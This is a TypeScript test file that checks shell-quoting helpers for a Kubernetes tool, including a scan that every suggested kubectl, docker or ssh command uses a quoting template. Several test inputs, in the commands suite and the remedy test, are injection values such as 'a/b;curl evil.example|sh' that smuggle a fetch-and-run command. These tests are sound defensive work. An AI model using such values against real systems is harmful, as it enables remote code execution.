import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { wrongPlatform } from '../../../lib/model/health/image.ts'
import { command, quote } from '../../../lib/model/shell.ts'
import { root } from '../../../lib/runtime/files.ts'

const quoting = suite('quote: a shell reads back the same words')
for (const [why, words] of [
  ['plain words', ['k0s', 'start']],
  ['an empty word', ['', 'x']],
  ['spaces and tabs', ['a b', '\t']],
  ['quotes of both kinds', [`it's`, '"so"', `'`, `''`]],
  ['what a shell would expand', ['$HOME', '`id`', '$(id)', '~', '*', '{a,b}', '!1']],
  ['what would end the command', ['a;b', 'a&b', 'a|b', '#', '\n', '>x']],
  ['a backslash at the end', ['\\', 'a\\']],
  ['what zsh would take for the path of a command', ['=ls']],
  ['no ASCII', ['täglich', '日本']],
  ['a flag with a flag in it', ['--kubelet-extra-args=--hostname-override=vm']],
] as const) {
  quoting(why, () => {
    const output = execFileSync('sh', ['-c', `printf '%s\\0' ${quote(words)}`], { encoding: 'utf8' })
    assert.equal(output.split('\0').slice(0, -1), [...words])
  })
}
quoting.run()

const commands = suite('command: each value is one word')
for (const value of ['threads', 'a/b;curl evil|sh', '$(id)', "it's", 'a b', '`id`', '\n', '']) {
  commands(JSON.stringify(value), () => {
    const output = execFileSync('sh', ['-c', command`printf '%s\\0' -n ${value} --end`.replace('-n', "'-n'")], {
      encoding: 'utf8',
    })
    assert.equal(output.split('\0').slice(0, -1), ['-n', value, '--end'])
  })
}
commands('nothing to quote, nothing quoted', () =>
  assert.is(command`kubectl -n ${'threads'} describe pod ${'nextjs-1'}`, 'kubectl -n threads describe pod nextjs-1'),
)
commands("an image's name in a remedy", () =>
  assert.match(
    wrongPlatform('threads/Pod/a', { image: 'a/b;curl evil.example|sh' }).remedy ?? '',
    "-t 'a/b;curl evil.example|sh' …",
  ),
)
commands.run()

/** A program that a remedy may name, in a template with a value and without the tag. */
const UNTAGGED =
  /(?<![\w`\\])`(?=(?:[^`\n\\]|\\.)*(?:(?<![\w-])(?:kubectl|gcloud|gsutil|docker|helm|ssh|ssh-keygen|ssh-add)|\btaskw image:bump) [^`\n]*\$\{)/
/** What runs a program, or tells of one. */
const OTHERS = /log\.debug\(`ssh |await shell\([^)]*\)`/

const untagged = suite('every command that is suggested is put together by it')
for (const file of readdirSync(join(root, 'lib'), { recursive: true, encoding: 'utf8' }).filter(name => name.endsWith('.ts'))) {
  untagged(file, () => {
    const lines = readFileSync(join(root, 'lib', file), 'utf8').split('\n')
    assert.equal(
      lines.filter(line => UNTAGGED.test(line) && !OTHERS.test(line)),
      [],
    )
  })
}
untagged.run()
